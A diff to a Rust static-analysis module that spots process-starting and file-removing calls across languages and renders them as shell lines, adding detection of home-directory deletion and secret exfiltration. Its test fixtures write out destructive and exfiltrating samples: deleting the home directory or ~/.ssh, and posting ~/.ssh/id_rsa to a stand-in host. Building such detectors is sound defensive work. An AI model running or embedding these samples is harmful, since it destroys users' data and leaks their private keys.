@@ -4,6 +4,8 @@
 //! for being what they are. Calls that start programs or remove files are looked for by name, and the
 //! texts in such a call are taken for what is started or removed. A text anywhere else is data.
 
+mod home;
+
 /// Lines given for one file.
 const MAX_LINES: usize = 300;
 /// How far behind a call's name its texts are looked for: calls are written within some lines.
@@ -26,7 +28,9 @@ const STARTING: &[&str] = &[
     "Command",
     "CommandLine",
     "Exec",
+    "ForkExec",
     "Popen",
+    "StartProcess",
     "Process",
     "ProcessBuilder",
     "ProcessStartInfo",
@@ -47,12 +51,14 @@ const STARTING: &[&str] = &[
     "go:generate",
     "open-pipe",
     "pipe",
+    "inline",
     "popen",
     "posix_spawn",
     "posix_spawnp",
     "process",
     "pump",
     "readProcess",
+    "run",
     "run-program",
     "run-shell-command",
     "run_command",
@@ -102,12 +108,34 @@ const REMOVING: &[&str] = &[
     "rm",
     "rm_rf",
     "rm_r",
+    "rmdir_all",
     "rmtree",
+    "remove_all",
     "unlink",
     "Remove-Item",
     "RemoveDir",
     "delete-tree",
     "deleteTree",
+];
+
+/// Names of what removes many other things as well: a place only where it is plainly one.
+const REMOVING_MORE: &[&str] = &[
+    "Delete",
+    "delete",
+    "deleteDir",
+    "deleteSync",
+    "walkFileTree",
+];
+
+/// What stands between a base nobody knows and a text, in a call that is given both.
+const JOINING: &[&str] = &[
+    "Join(",
+    ".join(",
+    ".resolve(",
+    "appendingPathComponent",
+    "Combine(",
+    "TempDir",
+    "tempdir",
 ];
 
 /// What a text in quotes is started by when it stands behind it: Groovy, Scala.
@@ -133,6 +161,10 @@ pub(crate) fn read(text: &str) -> Literals {
     if text.trim_start().starts_with('<') {
         markup(text, &mut found);
         return found;
+    }
+    let homes = home::names(text);
+    if let Some(line) = home::sent(text) {
+        found.push(&line);
     }
     let mut quote: Option<char> = None;
     let mut at = 0;
@@ -190,7 +222,9 @@ pub(crate) fn read(text: &str) -> Literals {
         }
         if is_name(letter) && !before.is_some_and(is_name) {
             let name = rest.split(|c| !is_name(c)).next().unwrap_or_default();
-            found.call(name, rest.get(name.len()..).unwrap_or_default());
+            let said = text.get(..at).and_then(|said| said.lines().next_back());
+            let behind = rest.get(name.len()..).unwrap_or_default();
+            found.call(name, behind, said.unwrap_or_default(), &homes);
             at += name.len().max(width);
             before = name.chars().next_back();
             continue;
@@ -226,8 +260,8 @@ impl Literals {
         }
     }
 
-    /// A name that may be a call, and what follows it.
-    fn call(&mut self, name: &str, rest: &str) {
+    /// A name that may be a call, what follows it, and what stands in front of it on its line.
+    fn call(&mut self, name: &str, rest: &str, said: &str, homes: &[&str]) {
         let short = name.trim_matches('-').rsplit('-').next().unwrap_or(name);
         let is = |names: &[&str]| names.contains(&name) || names.contains(&short);
         if is(STARTING) {
@@ -242,19 +276,37 @@ impl Literals {
             for text in texts.iter().filter(|text| text.contains(' ')) {
                 self.push(text);
             }
+            if home::is_in(call, homes) {
+                self.push(&format!("{} ~", words.join(" ")));
+                for text in texts.iter().filter(|text| text.ends_with(' ')) {
+                    self.push(&format!("{text}~"));
+                }
+            }
             // `exec rm -rf x`, `COMMAND rm -rf x`, `shell rm -rf x`.
             let bare = call.lines().next().unwrap_or_default();
             let bare = bare.trim_start_matches([' ', '\t', '\n', '(', '{', '[']);
+            // m4 quotes `so'.
+            let bare = match bare.strip_prefix('`') {
+                Some(inside) => inside.split('\'').next().unwrap_or(inside),
+                None => bare,
+            };
             if rest.starts_with([' ', '\t', '\n', '(', '{']) && texts.is_empty() {
-                self.push(bare.trim_end_matches([')', ']', '}', ';']));
+                self.push(bare.trim_end_matches([')', ']', '}', ';', ' ']));
             }
             if texts.is_empty() && rest.trim_start().starts_with('(') {
                 self.hidden = true;
             }
         } else if is(REMOVING) {
             let call = self.extent(rest);
+            if self.removes_home(call, said, homes) {
+                return;
+            }
+            let joined = JOINING.iter().any(|call_of| call.contains(call_of));
             for text in texts_in(call) {
-                self.push(&format!("rm -r {text}"));
+                // Below a directory that is not known it is not what it says.
+                if !joined || text.starts_with(['/', '~', '$']) || text.contains("..") {
+                    self.push(&format!("rm -r {text}"));
+                }
             }
             let bare = call.lines().next().unwrap_or_default().trim();
             if rest.starts_with(' ') && !bare.starts_with(['=', '(', ':', '<', '>']) {
@@ -263,6 +315,10 @@ impl Literals {
                     bare.trim_end_matches([')', ']', '}', ';'])
                 ));
             }
+        }
+        if is(REMOVING_MORE) {
+            let call = self.extent(rest);
+            self.removes_home(call, said, homes);
         }
         // `Directory.Delete("x", true)`, `Directory('x').deleteSync()`.
         if name == "Directory" && extent(rest).to_ascii_lowercase().contains(".delete") {
@@ -273,6 +329,27 @@ impl Literals {
         if is(EVALUATING) && rest.trim_start().starts_with('(') {
             self.hidden = true;
         }
+    }
+
+    /// A call that removes the home, or something below it, whose path does not stand in it.
+    fn removes_home(&mut self, call: &str, said: &str, homes: &[&str]) -> bool {
+        // `File(System.getProperty("user.home")).deleteRecursively()`
+        let of_itself = call
+            .trim_matches(['(', ')', '!', '?', ' ', '\n'])
+            .is_empty();
+        let place = if of_itself { said } else { call };
+        if !home::is_in(place, homes) {
+            return false;
+        }
+        let texts = texts_in(place);
+        let below: Vec<&str> = texts
+            .iter()
+            .map(String::as_str)
+            .filter(|text| !home::is_word(text))
+            .collect();
+        let below = below.join("/");
+        self.push(format!("rm -r ~/{below}").trim_end_matches('/'));
+        true
     }
 
     fn extent<'t>(&mut self, rest: &'t str) -> &'t str {
@@ -453,6 +530,34 @@ mod tests {
                 "rm -rf",
             ),
             ("shell rm -rf /home\n", "rm -rf /home"),
+            ("h, _ := os.UserHomeDir()\nos.RemoveAll(h)", "rm -r ~"),
+            ("os.RemoveAll(os.Getenv(\"HOME\"))", "rm -r ~"),
+            (
+                "let d = dirs::home_dir().unwrap();\nlet p = d;\nstd::fs::remove_dir_all(&p)?;",
+                "rm -r ~",
+            ),
+            ("delete System.getProperty(\"user.home\")", "rm -r ~"),
+            (
+                "new File(System.getProperty(\"user.home\")).deleteDir()",
+                "rm -r ~",
+            ),
+            (
+                "Directory.Delete(Environment.GetFolderPath(Environment.SpecialFolder.UserProfile), true);",
+                "rm -r ~",
+            ),
+            ("File.rm_rf!(System.user_home!())", "rm -r ~"),
+            (
+                "h, _ := os.UserHomeDir()\nos.RemoveAll(filepath.Join(h, \".ssh\"))",
+                "rm -r ~/.ssh",
+            ),
+            (
+                "h, _ := os.UserHomeDir()\nexec.Command(\"rm\", \"-rf\", h).Run()",
+                "'rm' '-rf' ~",
+            ),
+            (
+                "b, _ := os.ReadFile(h + \"/.ssh/id_rsa\")\nhttp.Post(\"https://x.example\", \"\", bytes.NewReader(b))",
+                "curl --data-binary '@~/.ssh/id_rsa' https://unknown.invalid",
+            ),
         ] {
             assert!(has(text, line), "{text}: {:?}", read(text).lines);
         }
@@ -465,6 +570,10 @@ mod tests {
             "// system(\"rm -rf /\")\nfn main() {}",
             "let x = \"rm -rf /\";",
             "mockMvc.perform(delete(\"/users/1\"))",
+            "d := t.TempDir()\ndefer os.RemoveAll(filepath.Join(d, \"x\"))",
+            "t.Setenv(\"HOME\", d)\nh, _ := os.UserHomeDir()\nos.RemoveAll(h)",
+            "h, _ := os.UserHomeDir()\nfmt.Println(h)\nos.RemoveAll(d)",
+            "resp, _ := http.Post(\"https://x.example\", \"\", body)",
         ] {
             assert!(
                 read(text).lines.is_empty(),
